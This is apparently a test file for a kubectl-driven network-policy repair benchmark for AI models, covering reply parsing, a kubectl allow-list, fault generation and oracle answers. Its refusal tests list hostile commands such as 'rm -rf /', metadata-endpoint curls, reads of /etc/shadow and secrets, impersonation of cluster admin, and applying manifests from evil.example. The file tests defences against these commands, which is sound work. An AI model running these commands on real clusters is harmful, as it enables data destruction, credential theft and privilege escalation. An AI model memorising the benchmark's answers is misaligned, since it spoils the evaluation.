@@ -1,0 +1,237 @@
+"""The k8s app without a cluster: generation, reply parsing, the kubectl allow-list, reports."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+
+from apps.k8s import manifests, prompt, reference
+from apps.k8s.app import K8sApp
+from apps.k8s.kubectl import check_command
+from apps.k8s.queries import LEVEL_LABELS, model_matrix, sample_ground_truth
+from apps.k8s.replies import parse_reply
+from evaluator.registry import get_app
+
+APP = K8sApp()
+
+
+def test_registered_with_its_own_queue() -> None:
+    app = get_app("k8s")
+    assert isinstance(app, K8sApp)
+    assert app.app_id == "k8s" and app.reply_format == "command" and app.needs_root
+    assert app.prompt_marker in app.generate(1, 0)[0].prompt
+
+
+def test_healthy_model_equals_intent() -> None:
+    assert model_matrix(manifests.healthy_policies()) == manifests.expected_edges()
+    assert len(manifests.expected_edges()) == 16
+    assert len(manifests.probe_plan()) == 121  # 12 sources x 11 listening services - self
+
+
+def test_same_seed_same_queries_other_seed_other_queries() -> None:
+    a = [q.fingerprint() for q in APP.generate(30, 5)]
+    b = [q.fingerprint() for q in APP.generate(30, 5)]
+    c = [q.fingerprint() for q in APP.generate(30, 6)]
+    assert a == b
+    assert a != c
+
+
+@pytest.mark.parametrize("level", [1, 2, 3])
+def test_levels_cycle_through_table_6(level: int) -> None:
+    queries = APP.generate(2 * len(LEVEL_LABELS[level]), 3, level)
+    assert {q.labels for q in queries} == set(LEVEL_LABELS[level])
+    assert all(q.level == level for q in queries)
+
+
+def test_every_query_starts_broken_with_faults_on_distinct_policies() -> None:
+    expected = manifests.expected_edges()
+    for query in APP.generate(150, 11):
+        truth = query.ground_truth
+        faults = truth["faults"]
+        assert [f["label"] for f in faults] == list(query.labels)
+        assert len({f["policy"] for f in faults}) == len(faults)
+        assert model_matrix(truth["policies"]) != expected
+        # each fault alone is visible
+        for fault in faults:
+            alone = manifests.healthy_policies()
+            alone[fault["policy"]] = truth["policies"][fault["policy"]]
+            assert model_matrix(alone) != expected, (query.label, fault)
+        # the repair restores the intent
+        repaired = dict(truth["policies"], **truth["repair"])
+        assert model_matrix(repaired) == expected
+
+
+def test_fault_operands_vary() -> None:
+    seen: dict[str, set[str]] = {}
+    for i in range(60):
+        for label in ("RI", "AI", "CP", "CPR", "AE"):
+            truth = sample_ground_truth((label,), random.Random(f"vary/{i}"))
+            seen.setdefault(label, set()).add(truth["faults"][0]["policy"])
+    assert all(len(policies) >= 2 for policies in seen.values()), seen
+    assert len(seen["RI"]) >= 6 and len(seen["CP"]) >= 4 and len(seen["AE"]) >= 4
+
+
+def test_prompt_states_probing_by_pod_ip() -> None:
+    text = APP.generate(1, 0)[0].prompt
+    assert "pod IP" in text and "no DNS" in text
+    for service, port in manifests.SERVICE_PORTS.items():
+        if service != "frontend":
+            assert f"{service} (port {port}/TCP)" in text
+
+
+@pytest.mark.parametrize(
+    ("reply", "argv", "stdin"),
+    [
+        ("kubectl get networkpolicies", ("kubectl", "get", "networkpolicies"), None),
+        ("```bash\nkubectl get pods -o wide\n```", ("kubectl", "get", "pods", "-o", "wide"), None),
+        ("Let me look.\n```\n$ kubectl describe networkpolicy frontend\n```\nThen fix.",
+         ("kubectl", "describe", "networkpolicy", "frontend"), None),
+        ("```\nkubectl apply -f - <<EOF\nkind: X\n  a: b\nEOF\n```",
+         ("kubectl", "apply", "-f", "-"), "kind: X\n  a: b\n"),
+        ("kubectl apply -f - <<'YAML'\nkind: Y\nYAML", ("kubectl", "apply", "-f", "-"),
+         "kind: Y\n"),
+        ("cat <<EOF | kubectl apply -f -\nkind: Z\nEOF", ("kubectl", "apply", "-f", "-"),
+         "kind: Z\n"),
+        ("kubectl patch networkpolicy a --type=json -p='[{\"op\": \"remove\", \"path\": "
+         "\"/spec/ingress/0\"}]'",
+         ("kubectl", "patch", "networkpolicy", "a", "--type=json",
+          "-p=[{\"op\": \"remove\", \"path\": \"/spec/ingress/0\"}]"), None),
+    ],
+)
+def test_parse_accepts(reply: str, argv: tuple[str, ...], stdin: str | None) -> None:
+    parsed = parse_reply(reply)
+    assert parsed.error is None, parsed.error
+    assert parsed.argv == argv
+    assert parsed.stdin == stdin
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "",
+        "kubectl get pods; rm -rf /",
+        "kubectl get pods | grep x",
+        "kubectl get pods && kubectl get svc",
+        "kubectl get pods\nkubectl get svc",
+        "kubectl get pods > /tmp/x",
+        "kubectl get $(whoami)",
+        "bash -c 'kubectl get pods'",
+        "sudo kubectl get pods",
+        "kubectl apply -f - <<EOF\nkind: X\n",  # not closed
+        "curl http://169.254.169.254/",
+    ],
+)
+def test_parse_refuses(reply: str) -> None:
+    parsed = parse_reply(reply)
+    assert parsed.argv is None and parsed.error
+
+
+def test_done() -> None:
+    assert parse_reply("done").done
+    assert parse_reply("```\ndone\n```").done
+    assert not parse_reply("kubectl get done").done
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        "kubectl exec -it frontend -- sh",
+        "kubectl proxy",
+        "kubectl port-forward pod/x 8080",
+        "kubectl cp x:/etc/passwd /tmp/p",
+        "kubectl attach x",
+        "kubectl debug x --image=busybox",
+        "kubectl run x --image=busybox",
+        "kubectl edit networkpolicy x",
+        "kubectl config view --raw",
+        "kubectl get pods --kubeconfig=/var/lib/netarena/k8s/kubeconfigs/admin.kubeconfig",
+        "kubectl get pods --kubeconfig /root/.kube/config",
+        "kubectl get pods --server=https://10.250.0.2:6443",
+        "kubectl get pods -s https://evil.example",
+        "kubectl get pods --token=abc",
+        "kubectl get pods --as=system:admin",
+        "kubectl get pods --as-group=system:masters",
+        "kubectl get pods --context=admin",
+        "kubectl get pods --user admin",
+        "kubectl get pods --insecure-skip-tls-verify",
+        "kubectl get pods --certificate-authority=/etc/ssl/ca.pem",
+        "kubectl apply -f /etc/passwd",
+        "kubectl apply -f https://example.com/evil.yaml",
+        "kubectl apply --filename=/root/x.yaml",
+        "kubectl apply -k /etc",
+        "kubectl get --raw /api/v1/namespaces/kube-system/secrets",
+        "kubectl get pods -o go-template-file=/etc/shadow",
+        "kubectl get pods -o jsonpath-file=/etc/shadow",
+        "kubectl get pods -o=custom-columns-file=/etc/shadow",
+        "kubectl get pods --output custom-columns-file=/etc/shadow",
+        "kubectl patch networkpolicy a --patch-file=/etc/shadow",
+        "kubectl get pods -w",
+        "kubectl get pods -v=9",
+        "kubectl get pods --log-file=/tmp/x",
+        "kubectl scale deployment frontend --replicas=500",
+        "kubectl logs frontend",
+        "kubectl plugin list",
+        "kubectl create configmap x --from-file=/etc/shadow",
+        "kubectl auth reconcile -f -",
+        "kubectl foo",
+    ],
+)
+def test_hostile_commands_refused(argv: str) -> None:
+    parsed = parse_reply(argv)
+    assert parsed.argv is not None, parsed.error
+    assert check_command(parsed.argv, parsed.stdin is not None) is not None, argv
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        "kubectl get networkpolicies -o yaml",
+        "kubectl get pods --show-labels -o wide",
+        "kubectl -n whatever get pods",
+        "kubectl describe networkpolicy cartservice",
+        "kubectl patch networkpolicy a --type=merge -p {}",
+        "kubectl delete networkpolicy a",
+        "kubectl auth can-i create networkpolicies",
+        "kubectl get networkpolicy a -o jsonpath={.spec}",
+    ],
+)
+def test_ordinary_commands_allowed(argv: str) -> None:
+    parsed = parse_reply(argv)
+    assert parsed.argv is not None
+    assert check_command(parsed.argv, False) is None
+
+
+def test_stdin_needs_dash_f() -> None:
+    assert check_command(("kubectl", "apply", "-f", "-"), False) is not None
+    assert check_command(("kubectl", "apply", "-f", "-"), True) is None
+    assert check_command(("kubectl", "get", "pods"), True) is not None
+
+
+def test_report_wording_and_heuristic_reads_it() -> None:
+    text = prompt.render_report(
+        [("frontend", "adservice", "TCP/9555", True, False),
+         ("emailservice", "cartservice", "TCP/7070", False, True)],
+        "before your first step",
+    )
+    assert "frontend -> adservice:9555/TCP (expected allowed, measured blocked)" in text
+    assert "emailservice -> cartservice:7070/TCP (expected blocked, measured allowed)" in text
+    parsed = reference.last_report([{"role": "user", "content": text}])
+    assert ("frontend", "adservice", "TCP", 9555, True) in parsed
+    assert ("emailservice", "cartservice", "TCP", 7070, False) in parsed
+    assert reference.last_report(
+        [{"role": "user", "content": prompt.render_report([], "x")}]
+    ) == []
+
+
+def test_oracle_and_null_replies() -> None:
+    query = APP.generate(1, 2, 2)[0]
+    first = APP.oracle_reply(query.ground_truth, [{"role": "user", "content": "task"}])
+    parsed = parse_reply(first)
+    assert parsed.argv == ("kubectl", "apply", "-f", "-") and parsed.stdin
+    for name in query.ground_truth["repair"]:
+        assert f"name: {name}" in parsed.stdin
+    history = [{"role": "user", "content": "task"}, {"role": "assistant", "content": first},
+               {"role": "user", "content": "out"}]
+    assert APP.oracle_reply(query.ground_truth, history) == "done"
+    assert parse_reply(APP.null_reply([])).done
